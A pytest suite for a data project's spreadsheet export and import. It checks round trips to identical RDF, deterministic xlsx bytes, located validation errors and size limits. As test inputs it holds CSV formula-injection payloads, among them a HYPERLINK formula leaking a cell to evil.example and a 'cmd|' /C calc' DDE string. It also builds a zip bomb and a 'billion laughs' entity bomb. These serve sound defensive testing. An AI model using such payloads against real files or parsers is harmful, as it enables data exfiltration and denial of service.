"""Spreadsheets in and out (graph/tables.py): ``export --format xlsx|csv-tables`` and the same
tables read back as a data folder, with the same RDF, located problems, limits and escaping."""

from __future__ import annotations

import io
import json
import os
import re
import shutil
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
import rdflib
import xlsxwriter
from hypothesis import given, settings
from hypothesis import strategies as st
from rdflib.compare import graph_diff, isomorphic, to_isomorphic

from cli import cli
from graph import tables
from graph.load import bundled_data_dir, display_path, load_dataset
from graph.rdf import graph_nquads
from graph.tables import (column_letter, csv_tables, escape_cell, join_list, split_list, table_sheets, unescape_cell,
                          xlsx_bytes)

from .conftest import SMALL

ROOT = Path(__file__).parent.parent
EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
        "'quoted'"]


def _rdf(dataset) -> rdflib.Dataset:
    assert [str(p) for p in dataset.problems] == []
    ds = rdflib.Dataset()
    ds.parse(data=b"".join(graph_nquads(dataset).values()), format="nquads")
    return ds


def _assert_same_rdf(before, after) -> None:
    """The same named graphs, each isomorphic (rdflib), with graph_diff in the message."""
    a, b = _rdf(before), _rdf(after)
    names = sorted(str(g.identifier) for g in a.graphs() if len(g))
    assert names == sorted(str(g.identifier) for g in b.graphs() if len(g))
    for name in names:
        ga, gb = a.graph(rdflib.URIRef(name)), b.graph(rdflib.URIRef(name))
        if not isomorphic(ga, gb):
            _, only_a, only_b = graph_diff(to_isomorphic(ga), to_isomorphic(gb))
            pytest.fail(f"{name}: only before:\n{only_a.serialize(format='nt')}\nonly after:\n"
                        f"{only_b.serialize(format='nt')}")
    assert sum(len(g) for g in a.graphs()) > 1000 or before.directory != bundled_data_dir()


def _xlsx_folder(folder: Path, sheets: dict) -> Path:
    folder.mkdir()
    (folder / "paradiplo.xlsx").write_bytes(xlsx_bytes(sheets))
    return folder


def _csv_folder(folder: Path, sheets: dict) -> Path:
    folder.mkdir()
    for name, data in csv_tables(sheets).items():
        (folder / name).write_bytes(data)
    return folder


@pytest.fixture(scope="module")
def bundled():
    return load_dataset()


@pytest.fixture(scope="module")
def bundled_sheets(bundled):
    return table_sheets(bundled)


# ------------------------------------------------------------------------------------------ round trips

def test_the_bundled_data_round_trip_through_xlsx_to_isomorphic_rdf(bundled, bundled_sheets, tmp_path):
    back = load_dataset(_xlsx_folder(tmp_path / "x", bundled_sheets))
    assert back.sources == bundled.sources
    assert len(back.entries) == len(bundled.entries)
    _assert_same_rdf(bundled, back)


def test_the_bundled_data_round_trip_through_csv_tables_to_isomorphic_rdf(bundled, bundled_sheets, tmp_path):
    back = load_dataset(_csv_folder(tmp_path / "c", bundled_sheets))
    assert back.sources == bundled.sources
    assert sorted(p.name for p in (tmp_path / "c").iterdir()) == sorted(f"{n}.csv" for n in bundled_sheets)
    _assert_same_rdf(bundled, back)


def test_projects_and_claims_round_trip_too(tmp_path):
    """Kinds added to KIND_MODELS after the tables were written get their sheets by themselves."""
    from .test_projects_claims import CLAIM, PROJECT

    data = tmp_path / "data"
    shutil.copytree(SMALL, data)
    with (data / "paper-a.yaml").open("a", encoding="utf-8") as f:
        f.write(PROJECT + CLAIM)
    before = load_dataset(data)
    assert {e.kind for e in before.entries} >= {"projects", "claims"}
    sheets = table_sheets(before)
    assert len(sheets["projects"]) == len(sheets["claims"]) == 2
    for folder in (_xlsx_folder(tmp_path / "x", sheets), _csv_folder(tmp_path / "c", sheets)):
        after = load_dataset(folder)
        assert sorted((e.kind, e.record.id) for e in after.entries) == sorted((e.kind, e.record.id)
                                                                              for e in before.entries)
        _assert_same_rdf(before, after)


def test_every_kind_of_records_has_its_sheet_and_every_field_its_column(bundled_sheets):
    from graph.records import KIND_MODELS

    assert list(bundled_sheets) == ["sources", *KIND_MODELS, "evidence"]
    for kind, model in KIND_MODELS.items():
        header = bundled_sheets[kind][0]
        assert header[:2] == ["source", "id"]
        written = {c.split(".")[0] for c in header}
        assert set(model.model_fields) - written == {"evidence", "draft"}, kind
    assert "label.en" in bundled_sheets["actors"][0] and "label.ru" in bundled_sheets["actors"][0]
    assert {"coordinates.lat", "coordinates.lon"} <= set(bundled_sheets["actors"][0])
    evidence = sum(len(e.record.evidence) for e in load_dataset().entries)
    assert len(bundled_sheets["evidence"]) - 1 == evidence


def test_one_id_stated_by_several_sources_is_one_row_per_source(bundled, bundled_sheets):
    several = next(rid for rid, es in bundled.by_id.items() if len({e.source for e in es}) > 1)
    rows = [r for r in bundled_sheets["actors"][1:] if r[1] == several]
    assert len(rows) == len({e.source for e in bundled.by_id[several]}) > 1
    assert len({r[0] for r in rows}) == len(rows)


def test_the_cli_exports_both_and_validate_reads_them_back(runner, tmp_path):
    result = runner.invoke(cli, ["export", "--data", str(SMALL), "--format", "xlsx", "-o",
                                 str(tmp_path / "x" / "small.xlsx")])
    assert result.exit_code == 0, result.output
    result = runner.invoke(cli, ["export", "--data", str(SMALL), "--format", "csv-tables", "-o",
                                 str(tmp_path / "c")])
    assert result.exit_code == 0, result.output
    for folder in ("x", "c"):
        result = runner.invoke(cli, ["validate", "--data", str(tmp_path / folder), "--format", "json"])
        assert result.exit_code == 0, result.output
        assert json.loads(result.stdout)["records"] == len(load_dataset(SMALL).by_id)
    _assert_same_rdf(load_dataset(SMALL), load_dataset(tmp_path / "x"))


def test_lists_with_separators_and_backslashes_round_trip():
    items = ["a;b", "c\\d", "e\\;f", " g ", "Ak Zhol"]
    assert split_list(join_list(items)) == [i.strip() for i in items]
    assert split_list("omsk-oblast;pavlodar-oblast ; ") == ["omsk-oblast", "pavlodar-oblast"]
    assert [column_letter(i) for i in (0, 25, 26, 701, 702)] == ["A", "Z", "AA", "ZZ", "AAA"]


# ------------------------------------------------------------------------------------------ determinism

def test_the_xlsx_is_the_same_bytes_on_another_day(tmp_path, monkeypatch):
    out = []
    for epoch, clock in (("0", 0.0), ("2000000000", 4_000_000_000.0)):
        monkeypatch.setenv("SOURCE_DATE_EPOCH", epoch)
        monkeypatch.setattr(time, "time", lambda clock=clock: clock)  # what zipfile dates entries by
        out.append(xlsx_bytes(table_sheets(load_dataset(SMALL))))
    assert out[0] == out[1]
    with zipfile.ZipFile(io.BytesIO(out[0])) as archive:
        assert {i.date_time for i in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        core = archive.read("docProps/core.xml").decode()
    assert "2000-01-01T00:00:00Z" in core


def test_the_export_is_byte_identical_in_processes_with_other_dates_and_zones(tmp_path):
    outputs = []
    for n, (epoch, zone) in enumerate((("1", "UTC"), ("1900000000", "Asia/Omsk"))):
        target = tmp_path / f"{n}.xlsx"
        env = {"SOURCE_DATE_EPOCH": epoch, "TZ": zone, "PYTHONHASHSEED": str(n), "LC_ALL": "C",
               "PATH": "/usr/bin:/bin", "PARADIPLO_CACHE": str(tmp_path / "cache")}
        env |= {"PYTHONPATH": os.environ["PYTHONPATH"]} if "PYTHONPATH" in os.environ else {}
        subprocess.run([sys.executable, "-m", "cli", "export", "--data", str(SMALL), "--format", "xlsx", "-o",
                        str(target)], cwd=ROOT, env=env, check=True, capture_output=True)
        outputs.append(target.read_bytes())
    assert outputs[0] == outputs[1]


# ------------------------------------------------------------------------------------------ escaping

def _evil_data(tmp_path: Path) -> Path:
    data = tmp_path / "evil"
    shutil.copytree(SMALL, data)
    paper = data / "paper-a.yaml"
    text = paper.read_text(encoding="utf-8")
    labels = ", ".join(f"{lang}: {json.dumps(v, ensure_ascii=False)}" for lang, v in zip(("en", "ru", "kk", "de", "fr"), EVIL))
    text = text.replace("label: {en: Russia, ru: Россия}", f"label: {{{labels}}}", 1)
    paper.write_text(text, encoding="utf-8")
    assert [str(p) for p in load_dataset(data).problems] == []
    return data


def test_formula_looking_cells_are_escaped_in_csv_and_read_back_unescaped(tmp_path):
    data = _evil_data(tmp_path)
    sheets = table_sheets(load_dataset(data))
    raw = csv_tables(sheets)["actors.csv"].decode("utf-8")
    for value in EVIL:
        assert value not in raw.replace('""', '"').split(",") or value == "-2+3"
    import csv
    cells = [c for row in csv.reader(io.StringIO(raw.removeprefix("\ufeff"))) for c in row]
    for value in EVIL:
        assert "'" + value in cells
        assert value not in cells
    back = load_dataset(_csv_folder(tmp_path / "c", sheets))
    russia = next(e for e in back.entries if e.record.id == "russia")
    assert list(russia.record.label.values()) == EVIL
    _assert_same_rdf(load_dataset(data), back)


def test_formula_looking_cells_are_text_in_xlsx_and_read_back_unescaped(tmp_path):
    data = _evil_data(tmp_path)
    folder = _xlsx_folder(tmp_path / "x", table_sheets(load_dataset(data)))
    book = openpyxl.load_workbook(folder / "paradiplo.xlsx")
    cells = [c for row in book["actors"].iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert {"'" + v for v in EVIL} <= {c.value for c in cells}
    back = load_dataset(folder)
    assert list(next(e for e in back.entries if e.record.id == "russia").record.label.values()) == EVIL


# ------------------------------------------------------------------------------------------ problems

def _cell(sheets: dict, sheet: str, rid: str, column: str, value: str) -> tuple[int, str]:
    """Set a cell of the row of ``rid``; its row number and column letter, as problems give them."""
    header = sheets[sheet][0]
    r = next(i for i, row in enumerate(sheets[sheet]) if row[header.index("id")] == rid)
    sheets[sheet][r][header.index(column)] = value
    return r + 1, column_letter(header.index(column))


def _evidence_cell(sheets: dict, rid: str, column: str, value: str) -> tuple[int, str]:
    header = sheets["evidence"][0]
    r = next(i for i, row in enumerate(sheets["evidence"]) if row[1] == rid)
    sheets["evidence"][r][header.index(column)] = value
    return r + 1, column_letter(header.index(column))


def _broken_sheets() -> tuple[dict, dict[str, tuple[int, str]]]:
    sheets = table_sheets(load_dataset(SMALL))
    where = {"date": _cell(sheets, "agreements", "omsk-pavlodar-agreement", "date", "2015-02-30"),
             "signatories": _cell(sheets, "agreements", "omsk-nko-memorandum", "signatories",
                                  "omsk-oblst; north-kazakhstan-oblast"),
             "quote": _evidence_cell(sheets, "pavlodar-visit-2021", "quote", ""),
             "locator": _evidence_cell(sheets, "omsk-kz-trade-2022", "locator", ""),
             "source": _cell(sheets, "sectors", "education", "source", "paper-z")}
    return sheets, where


def test_xlsx_problems_name_file_sheet_row_and_column_all_in_one_run(tmp_path, runner):
    sheets, where = _broken_sheets()
    folder = _xlsx_folder(tmp_path / "x", sheets)
    result = runner.invoke(cli, ["validate", "--data", str(folder)])
    assert result.exit_code == 1
    lines = result.stderr.splitlines()
    book = display_path(folder / "paradiplo.xlsx")
    row, col = where["date"]
    assert any(line.startswith(f"{book}:agreements:{row}:{col}: omsk-pavlodar-agreement: date: impossible date "
                               "2015-02-30") for line in lines), lines
    row, col = where["signatories"]
    assert f"{book}:agreements:{row}:{col}: omsk-nko-memorandum: signatories: no record 'omsk-oblst'; did you " \
           "mean 'omsk-oblast'?" in lines, lines
    row, col = where["locator"]
    assert f"{book}:evidence:{row}:{col}: omsk-kz-trade-2022: evidence[0].locator: required field is missing" \
        in lines, lines
    row, col = where["quote"]
    assert f"{book}:evidence:{row}:{col}: pavlodar-visit-2021: evidence[0].quote: required field is missing" \
        in lines, lines
    row, col = where["source"]
    assert any(line.startswith(f"{book}:sectors:{row}:{col}: -: source: no source 'paper-z' in sources.yaml")
               for line in lines), lines
    assert any(line.startswith(f"{book}:evidence:") and "education: record_id: no row of sectors with id "
               "'education' and source 'paper-a'" in line for line in lines), lines  # its evidence rows now
    assert lines[-1].endswith(" records, 7 problem(s)")  # all in one run


def test_csv_tables_saved_with_semicolons_read_the_same(tmp_path):
    """Excel in a Russian locale saves "CSV" with ``;`` between cells."""
    import csv

    before = load_dataset(SMALL)
    folder = _csv_folder(tmp_path / "c", table_sheets(before))
    for path in folder.iterdir():
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
        out = io.StringIO()
        csv.writer(out, delimiter=";").writerows(rows)
        path.write_text(out.getvalue(), encoding="utf-8")
    assert (folder / "actors.csv").read_text(encoding="utf-8").startswith("source;id;label.en;")
    _assert_same_rdf(before, load_dataset(folder))


def test_csv_problems_name_file_row_and_column(tmp_path, runner):
    sheets, where = _broken_sheets()
    folder = _csv_folder(tmp_path / "c", sheets)
    result = runner.invoke(cli, ["validate", "--data", str(folder)])
    assert result.exit_code == 1
    row, col = where["date"]
    assert f"{display_path(folder / 'agreements.csv')}:{row}:{col}: omsk-pavlodar-agreement: date: impossible date 2015-02-30: " \
           "2015-02 has 28 days" in result.stderr.splitlines(), result.stderr


def test_unknown_sheets_columns_orphan_evidence_and_formulas_are_reported(tmp_path):
    sheets = table_sheets(load_dataset(SMALL))
    sheets["actors"][0][sheets["actors"][0].index("country")] = "countri"
    sheets["actor"] = [["source", "id"]]
    sheets["evidence"].append(["actors", "nobody", "paper-a", "1", "Никто", None, "body"])
    folder = _xlsx_folder(tmp_path / "x", sheets)
    book = xlsxwriter.Workbook(str(folder / "formula.xlsx"))
    sheet = book.add_worksheet("actors")
    sheet.write_row(0, 0, ["source", "id"])
    sheet.write_formula(1, 1, '=HYPERLINK("http://evil.example","x")')
    book.close()
    found = {(p.code, p.file.rsplit("/", 1)[-1], p.line, p.column, p.message.split(";")[0].split(":")[0])
             for p in load_dataset(folder).problems}
    col = column_letter(sheets["actors"][0].index("countri"))
    assert ("invalid-field", "paradiplo.xlsx:actors", 1, col, "unknown column 'countri'") in found
    assert ("invalid-field", "paradiplo.xlsx:actor", 1, "", "unknown sheet 'actor'") in found
    assert ("unknown-reference", "paradiplo.xlsx:evidence", len(sheets["evidence"]), "B",
            "no row of actors with id 'nobody' and source 'paper-a'") in found
    assert ("invalid-field", "formula.xlsx:actors", 2, "B", 'a formula (=HYPERLINK("http') in found


# ------------------------------------------------------------------------------------------ limits

def test_a_zip_bomb_is_refused_before_it_is_unpacked(tmp_path, monkeypatch, runner):
    folder = tmp_path / "bomb"
    folder.mkdir()
    monkeypatch.setattr(tables, "MAX_UNCOMPRESSED_BYTES", 1_000_000)
    with zipfile.ZipFile(folder / "bomb.xlsx", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * 5_000_000)
    assert (folder / "bomb.xlsx").stat().st_size < 50_000
    problems = load_dataset(folder).problems
    assert [(p.code, p.file.rsplit("/", 1)[-1]) for p in problems if p.code != "no-data"] == [
        ("table-limit", "bomb.xlsx")]
    assert "unpacks to 5,000,000 bytes, more than the limit of 1,000,000" in problems[-1].message or \
        any("unpacks to 5,000,000 bytes" in p.message for p in problems)


def test_a_workbook_over_the_cell_limit_and_files_that_are_not_spreadsheets_are_refused(tmp_path, monkeypatch,
                                                                                      runner):
    folder = _xlsx_folder(tmp_path / "x", table_sheets(load_dataset(SMALL)))
    (folder / "notes.xlsx").write_bytes(b"not a zip at all")
    (folder / "actors.csv").write_text("source,id\npaper-a," + "a" * 200_000 + "\n", encoding="utf-8")
    monkeypatch.setattr(tables, "MAX_CELLS", 50)
    found = {(p.code, p.file.rsplit("/", 1)[-1].split(":")[0]) for p in load_dataset(folder).problems}
    assert {("table-limit", "paradiplo.xlsx"), ("table-limit", "notes.xlsx"), ("table-limit", "actors.csv")} <= found
    result = runner.invoke(cli, ["validate", "--data", str(folder)])
    assert result.exit_code == 2
    assert "more than 50 cells" in result.stderr


@pytest.mark.parametrize("row, column", [(50_000, 0), (1, 16_383)], ids=["far-down", "far-right"])
def test_far_away_cells_and_the_empty_rows_before_them_count_against_the_cell_limit(tmp_path, monkeypatch, row,
                                                                                    column):
    folder = tmp_path / "far"
    folder.mkdir()
    book = xlsxwriter.Workbook(str(folder / "far.xlsx"))
    sheet = book.add_worksheet("actors")
    sheet.write_row(0, 0, ["source", "id"])
    sheet.write_string(row, column, "x")  # rows (or cells) between are empty
    book.close()
    monkeypatch.setattr(tables, "MAX_CELLS", 10_000)
    problems = [p for p in load_dataset(folder).problems if p.code == "table-limit"]
    assert len(problems) == 1 and "more than 10,000 cells" in problems[0].message


# ------------------------------------------------------------------------------------------ cells

@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=30))
def test_escaping_a_cell_is_undone_by_reading_it(text):
    escaped = escape_cell(text)
    assert unescape_cell(escaped) == text
    assert not (isinstance(escaped, str) and escaped.startswith(("=", "+", "-", "@", "\t", "\r"))
                and not re.fullmatch(r"[+-]?[\d.eE+-]+", escaped))


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=12), max_size=6))
def test_a_list_cell_gives_back_its_items(items):
    assert split_list(join_list(items)) == [i.strip() for i in items if i.strip()]


def test_a_field_of_no_known_layout_is_one_cell_of_json():
    from pydantic import BaseModel

    class Odd(BaseModel):
        id: str
        pairs: list[tuple[str, int]] = []
        when: dict[str, str] = {}

    assert tables.shapes(Odd) == {"id": "text", "pairs": "json", "when": "langs"}
    record = Odd(id="a", pairs=[("x;y", 1), ("=z", 2)], when={"en": "2015"})
    rows = tables._table(Odd, [tables._cells(record)], [record], ["id"])
    assert rows == [["id", "pairs", "when.en"], ["a", '[["x;y", 1], ["=z", 2]]', "2015"]]
    sheet = tables._Sheet("odd.csv", [(n, [None if c is None else str(c) for c in row])
                                      for n, row in enumerate(rows, start=1)])
    problems: list = []
    [row] = tables._rows(Odd, (), sheet, problems)
    assert problems == [] and Odd.model_validate(row.item) == record


def test_dates_and_numbers_typed_into_a_workbook_are_read_as_text(tmp_path):
    """Excel turns 2015-03-16 typed into a cell into a date, and 2019 into a number: both read back."""
    import datetime as dt

    sheets = table_sheets(load_dataset(SMALL))
    folder = _xlsx_folder(tmp_path / "x", sheets)
    book = xlsxwriter.Workbook(str(folder / "paradiplo.xlsx"))
    for name, rows in sheets.items():
        sheet = book.add_worksheet(name)
        for r, row in enumerate(rows):
            for c, value in enumerate(row):
                if value == "2015-03-16":
                    sheet.write_datetime(r, c, dt.datetime(2015, 3, 16), book.add_format({"num_format": "dd.mm.yyyy"}))
                elif value is not None:
                    sheet.write(r, c, value)
    book.close()
    back = load_dataset(folder)
    assert [str(p) for p in back.problems] == []
    agreement = next(e for e in back.entries if e.record.id == "omsk-pavlodar-agreement" and e.source == "paper-a")
    assert str(agreement.record.date) == "2015-03-16"
    _assert_same_rdf(load_dataset(SMALL), back)


def test_an_entity_bomb_inside_a_workbook_part_is_refused(tmp_path):
    """A "billion laughs" DTD in a sheet: the XML parser's amplification limit (expat ≥ 2.4) stops it."""
    raw = xlsx_bytes({"actors": [["source", "id"], ["paper-a", "xx"]]})
    lol = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
    bomb = f'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol0 "lol">{lol}]>\n'
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(raw)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename).decode("utf-8")
            if info.filename == "xl/worksheets/sheet1.xml":
                body, n = re.subn(r'<c r="B2"([^>]*) t="s"><v>\d+</v></c>',
                                  r'<c r="B2"\1 t="inlineStr"><is><t>&lol9;</t></is></c>', data[data.index("?>") + 2:])
                assert n == 1
                data = bomb + body
            target.writestr(info.filename, data)
    folder = tmp_path / "lol"
    folder.mkdir()
    (folder / "lol.xlsx").write_bytes(out.getvalue())
    problems = [p for p in load_dataset(folder).problems if p.code == "table-limit"]
    assert len(problems) == 1 and "amplification" in problems[0].message


def test_a_text_over_excels_cell_limit_fails_the_export_and_writes_nothing(tmp_path, monkeypatch, runner):
    monkeypatch.setattr(tables, "EXCEL_MAX_CHARS", 20)
    target = tmp_path / "out" / "small.xlsx"
    result = runner.invoke(cli, ["export", "--data", str(SMALL), "--format", "xlsx", "-o", str(target)])
    assert result.exit_code == 1
    assert "over Excel's limit of 20 a cell; export csv-tables instead" in result.stderr
    assert not target.parent.exists() or list(target.parent.iterdir()) == []  # no file, no temporary file
    result = runner.invoke(cli, ["export", "--data", str(SMALL), "--format", "csv-tables", "-o", str(tmp_path / "c")])
    assert result.exit_code == 0, result.output  # CSV has no such limit
